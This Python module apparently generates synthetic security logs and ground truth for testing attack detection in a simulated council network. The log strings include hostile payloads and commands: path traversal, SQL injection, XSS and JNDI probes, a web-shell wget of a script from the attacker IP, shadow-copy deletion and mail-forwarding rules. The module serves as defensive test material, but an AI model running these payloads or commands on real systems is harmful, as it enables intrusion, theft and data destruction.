"""Attacks on the simulated organisation: the daily background of attempts, and the serious few.

The background is what every council's edge sees all day: internet-wide port scans, SSH guessing,
web scanners probing for known paths and injection, password spraying and legacy-protocol guessing
against Microsoft 365. Each background source is recorded in the ground truth as an attempt.

Serious attacks are the ones that must each raise an incident. Each scenario writes every stage of the
attack in the logs of the systems it touches, and returns its ground truth: kind, title, entities,
start and end.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from garrison.simulate.logs import Logs
from garrison.simulate.org import OFFICE_PUBLIC, Org, public_ip

S = 1_000_000
M = 60 * S
H = 60 * M
BASTION_PUBLIC = "81.2.69.162"
WEB_PUBLIC = "81.2.69.163"
ATTACK_COUNTRIES = ["RU", "CN", "NG", "BR", "VN", "IR", "KP", "RO", "US", "NL"]
SSH_USERS = ["root", "admin", "ubuntu", "oracle", "test", "postgres", "git", "deploy", "pi", "user", "ftpuser", "support"]
PROBES = ["/.env", "/.git/config", "/.git/HEAD", "/wp-login.php", "/wp-admin/install.php", "/phpmyadmin/index.php",
          "/pma/index.php", "/admin/config.php", "/server-status", "/.aws/credentials", "/config.json", "/backup.zip",
          "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
          "/index.php?page=../../../../etc/passwd", "/search?q=1%27%20OR%20%271%27%3D%271",
          "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "/api/v1/users?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
          "/?x=${jndi:ldap://{ip}:1389/Exploit}", "/boaform/admin/formLogin", "/HNAP1/", "/actuator/env",
          "/owa/auth/x.js", "/autodiscover/autodiscover.json?@zdi/Powershell", "/solr/admin/info/system?wt=json"]
SCANNER_AGENTS = ["Mozilla/5.0 zgrab/0.x", "sqlmap/1.8.2#stable (https://sqlmap.org)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                  "python-requests/2.31.0", "curl/8.4.0", "Mozilla/5.0 (compatible; CensysInspect/1.1)", "Go-http-client/1.1"]


@dataclass
class Attack:
    id: str
    kind: str
    title: str
    serious: bool
    start: int = 0
    end: int = 0
    entities: dict[str, list[str]] = field(default_factory=lambda: {"ip": [], "user": [], "host": []})

    def truth(self) -> dict[str, Any]:
        return {"id": self.id, "kind": self.kind, "title": self.title, "serious": self.serious, "start": self.start,
                "end": self.end, "entities": self.entities}


class Scene:
    """One attack being written: every row added through it belongs to the attack."""

    def __init__(self, logs: Logs, attack: Attack):
        self.logs, self.attack = logs, attack

    def __enter__(self) -> Attack:
        self.logs.attack = self.attack.id
        return self.attack

    def __exit__(self, *exc: object) -> None:
        self.logs.attack = None
        self.attack.start, self.attack.end = self.logs.spans.get(self.attack.id, [0, 0])


# -- background ----------------------------------------------------------------------------------------

def background(logs: Logs, org: Org, rng: random.Random, day0: int, scale: float = 1.0) -> list[Attack]:
    out: list[Attack] = []
    n = 0

    def attack(kind: str, title: str, ip: str) -> Scene:
        nonlocal n
        n += 1
        a = Attack(f"bg-{day0 // (24 * H)}-{n}", kind, title, serious=False)
        a.entities["ip"].append(ip)
        out.append(a)
        return Scene(logs, a)

    for _ in range(int(320 * scale)):  # port scans at the edge, dropped by the firewall
        ip = public_ip(rng)
        with attack("scan", "Port scan at the edge", ip):
            t = day0 + rng.randrange(24 * H)
            ports = rng.sample(range(1, 65536), rng.choice([1, 3, 8, 40, 120, 250])) if rng.random() < 0.5 else \
                rng.choices([22, 23, 80, 443, 445, 1433, 3306, 3389, 5900, 8080, 8443], k=rng.randrange(1, 60))
            for p in ports:
                t += rng.randrange(10_000, 900_000)
                logs.firewall(t, ip, rng.choice([OFFICE_PUBLIC, BASTION_PUBLIC, WEB_PUBLIC]), rng.randrange(1024, 65535), p)
    for _ in range(int(45 * scale)):  # SSH guessing against the bastion
        ip = public_ip(rng)
        with attack("ssh_brute_force", "SSH password guessing", ip):
            t = day0 + rng.randrange(24 * H)
            slow = rng.random() < 0.3
            for _ in range(rng.randrange(20, 400)):
                t += rng.randrange(40 * S, 5 * M) if slow else rng.randrange(300_000, 6 * S)
                u = rng.choice(SSH_USERS)
                inv = "" if u == "root" else "invalid user "
                logs.sshd(t, "bastion01", rng.randrange(2000, 60000),
                          f"Failed password for {inv}{u} from {ip} port {rng.randrange(1024, 65535)} ssh2")
    for _ in range(int(60 * scale)):  # web scanners: known paths and injection probes, refused
        ip = public_ip(rng)
        with attack("web_probe", "Web vulnerability scan", ip):
            t = day0 + rng.randrange(24 * H)
            agent = rng.choice(SCANNER_AGENTS)
            for _ in range(rng.randrange(10, 90)):
                t += rng.randrange(200_000, 20 * S)
                path = rng.choice(PROBES).replace("{ip}", ip)
                logs.access(t, ip, "GET", path, rng.choice([404, 404, 403, 400]), rng.randrange(150, 600), agent)
    users = [p.upn for p in org.people]
    for _ in range(int(12 * scale)):  # password spraying and legacy-protocol guessing against Microsoft 365
        ip = public_ip(rng)
        country = rng.choice(ATTACK_COUNTRIES)
        legacy = rng.random() < 0.4
        with attack("password_spray", "Password spraying against Microsoft 365", ip):
            t = day0 + rng.randrange(24 * H)
            for upn in rng.sample(users, rng.randrange(20, 250)):
                t += rng.randrange(2 * S, 40 * S)
                logs.signin(t, upn, ip, country, error=50126, client="IMAP4" if legacy else "Browser",
                            app="Office 365 Exchange Online")
    return out


# -- serious attacks -----------------------------------------------------------------------------------

def _ssh_compromise(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    ip = public_ip(rng)
    a.entities["ip"].append(ip)
    a.entities["host"].append("bastion01")
    a.entities["user"].append("deploy")
    for i in range(rng.randrange(30, 120)):  # a guessing tool: several tries a second
        t += rng.randrange(150_000, 1 * S)
        logs.sshd(t, "bastion01", 40000 + i, f"Failed password for deploy from {ip} port {rng.randrange(1024, 65535)} ssh2")
    t += rng.randrange(2 * S, 20 * S)
    logs.sshd(t, "bastion01", 41000, f"Accepted password for deploy from {ip} port {rng.randrange(1024, 65535)} ssh2")


def _m365_takeover(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    """Password spray, one account falls, and the attacker forwards its mail outside."""
    ip, country = public_ip(rng), rng.choice(ATTACK_COUNTRIES)
    victims = rng.sample(org.people, min(40, len(org.people)))
    victim = victims[-1]
    a.entities["ip"].append(ip)
    a.entities["user"].append(victim.upn)
    for p in victims[:-1]:  # a spraying script: one account every second or two
        t += rng.randrange(500_000, 2 * S)
        logs.signin(t, p.upn, ip, country, error=50126)
    t += rng.randrange(3 * S, 15 * S)
    logs.signin(t, victim.upn, ip, country)
    t += rng.randrange(2 * M, 8 * M)
    logs.m365(t, "New-InboxRule", victim.upn, ip, Parameters=[
        {"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": f"invoices{rng.randrange(99)}@protonmail.example"},
        {"Name": "DeleteMessage", "Value": "True"}, {"Name": "StopProcessingRules", "Value": "True"}])
    t += rng.randrange(1 * M, 5 * M)
    logs.m365(t, "MailItemsAccessed", victim.upn, ip, MailAccessType="Bind", OperationCount=rng.randrange(200, 900))


def _mfa_fatigue(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    """The attacker has the password and pushes MFA prompts until the user gives in."""
    ip, country = public_ip(rng), rng.choice(ATTACK_COUNTRIES)
    victim = rng.choice(org.people)
    a.entities["ip"].append(ip)
    a.entities["user"].append(victim.upn)
    for _ in range(rng.randrange(8, 20)):
        t += rng.randrange(20 * S, 60 * S)
        logs.signin(t, victim.upn, ip, country, error=500121, mfa="denied",
                    reason="Authentication failed during strong authentication request.")
    t += rng.randrange(20 * S, 60 * S)
    logs.signin(t, victim.upn, ip, country, mfa="approved")
    t += rng.randrange(1 * M, 4 * M)
    logs.m365(t, "Set-Mailbox", victim.upn, ip, Parameters=[
        {"Name": "ForwardingSmtpAddress", "Value": f"smtp:{victim.name}@mailbox.example"},
        {"Name": "DeliverToMailboxAndForward", "Value": "False"}])


def _phish_lateral(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    """A phishing attachment runs PowerShell, the attacker looks around, then moves to servers with PsExec."""
    victim = rng.choice([p for p in org.people if not p.privileged])
    admin = rng.choice(org.admins)
    ws = org.fqdn(victim.workstation)
    a.entities["user"] += [victim.name, admin.name]
    a.entities["host"] += [ws]
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    logs.process(t, ws, victim.name, word, f'"WINWORD.EXE" /n "C:\\Users\\{victim.name}\\Downloads\\Invoice-{rng.randrange(9999)}.docm"',
                 "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", '"OUTLOOK.EXE"', 5000)
    t += rng.randrange(5 * S, 40 * S)
    logs.process(t, ws, victim.name, ps, f"powershell.exe -nop -w hidden -enc {'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA' * 3}",
                 word, '"WINWORD.EXE" /n', 5100)
    for cmd in ("whoami /all", "net group \"Domain Admins\" /domain", "nltest /dclist:council", "net view \\\\fs01"):
        t += rng.randrange(10 * S, 90 * S)
        exe = cmd.split()[0]
        logs.process(t, ws, victim.name, f"C:\\Windows\\System32\\{exe}.exe", cmd, ps, "powershell.exe -nop -w hidden", 5200)
    for server in ("fs01", "sql01"):
        t += rng.randrange(2 * M, 6 * M)
        host = org.fqdn(server)
        a.entities["host"].append(host)
        logs.logon(t, host, admin.name, victim.ws_ip, ok=True, logon_type=3, workstation=victim.workstation)
        logs.windows(t + S, host, 7045, "System", "Service Control Manager", ServiceName="PSEXESVC",
                     ImagePath="%SystemRoot%\\PSEXESVC.exe", ServiceType="user mode service", StartType="demand start",
                     AccountName="LocalSystem")
        logs.process(t + 2 * S, host, admin.name, "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                     "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", 6000)


def _worm_ransomware(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    """A workstation sweeps the network on 445 like WannaCry, then deletes shadow copies and drops notes."""
    victim = rng.choice(org.people)
    ws = org.fqdn(victim.workstation)
    a.entities["ip"].append(victim.ws_ip)
    a.entities["host"].append(ws)
    a.entities["user"].append(victim.name)
    targets = rng.sample(org.people, min(250, len(org.people)))  # a small organisation: everyone
    for p in targets:
        t += rng.randrange(50_000, 900_000)
        open_ = rng.random() < 0.1
        logs.conn(t, victim.ws_ip, rng.randrange(49152, 65535), p.ws_ip, 445, state="S1" if open_ else rng.choice(["S0", "REJ"]),
                  service="smb" if open_ else None, duration=0.0)
    cmd = "C:\\Windows\\System32\\cmd.exe"
    t += rng.randrange(10 * S, 60 * S)
    logs.process(t, ws, victim.name, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
                 cmd, "cmd.exe /c vssadmin.exe delete shadows /all /quiet", 7100)
    t += rng.randrange(2 * S, 10 * S)
    logs.process(t, ws, victim.name, "C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no",
                 cmd, "cmd.exe /c bcdedit /set {default} recoveryenabled no", 7101)
    for i in range(30):
        t += rng.randrange(100_000, 2 * S)
        logs.windows(t, ws, 11, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon",
                     Image=f"C:\\Users\\{victim.name}\\AppData\\Local\\Temp\\tasksche.exe", ProcessId="7200",
                     TargetFilename=f"\\\\fs01\\shared\\folder{i}\\@Please_Read_Me@.txt", User=f"COUNCIL\\{victim.name}")


def _webshell(logs: Logs, org: Org, rng: random.Random, t: int, a: Attack) -> None:
    """A scanner finds a vulnerable upload form, plants a PHP web shell and runs commands through it."""
    ip = public_ip(rng)
    a.entities["ip"].append(ip)
    a.entities["host"].append("web01")
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
    for path in ("/wp-login.php", "/wp-content/plugins/", "/wp-content/plugins/file-manager/readme.txt"):
        t += rng.randrange(S, 10 * S)
        logs.access(t, ip, "GET", path, 404 if "login" in path else 200, 512, agent)
    shell = f"/wp-content/uploads/2026/11/thumb-{rng.randrange(999)}.php"
    t += rng.randrange(S, 10 * S)
    logs.access(t, ip, "POST", "/wp-content/plugins/file-manager/lib/php/connector.minimal.php", 200, 1200, agent)
    for cmd in ("id", "uname%20-a", "cat%20/etc/passwd", "wget%20http%3A%2F%2F" + ip + "%2Fm.sh%20-O%20/tmp/m.sh"):
        t += rng.randrange(5 * S, 60 * S)
        logs.access(t, ip, "GET", f"{shell}?cmd={cmd}", 200, rng.randrange(40, 3000), agent)


SCENARIOS: dict[str, tuple[str, Callable[[Logs, Org, random.Random, int, Attack], None]]] = {
    "ssh_compromise": ("SSH brute force that succeeded on the bastion host", _ssh_compromise),
    "m365_takeover": ("Password spray, account taken over, mail forwarded outside", _m365_takeover),
    "mfa_fatigue": ("MFA fatigue: prompts until approved, then mail forwarding", _mfa_fatigue),
    "phish_lateral": ("Phishing document runs PowerShell, then PsExec to servers", _phish_lateral),
    "worm_ransomware": ("SMB worm sweep, shadow copies deleted, ransom notes", _worm_ransomware),
    "webshell": ("Web shell planted on the website and used", _webshell),
}


def serious(logs: Logs, org: Org, rng: random.Random, day0: int, count: int) -> list[Attack]:
    out = []
    kinds = rng.sample(sorted(SCENARIOS), min(count, len(SCENARIOS)))
    for i, kind in enumerate(kinds):
        title, fn = SCENARIOS[kind]
        a = Attack(f"serious-{day0 // (24 * H)}-{i + 1}", kind, title, serious=True)
        # Phishing and worms start on a staff member's machine, so in working hours (after the morning logon).
        at = rng.randrange(9 * H + 30 * M, 16 * H) if kind in ("phish_lateral", "worm_ransomware") else \
            rng.randrange(1 * H, 22 * H)
        with Scene(logs, a):
            fn(logs, org, rng, day0 + at, a)
        out.append(a)
    return out
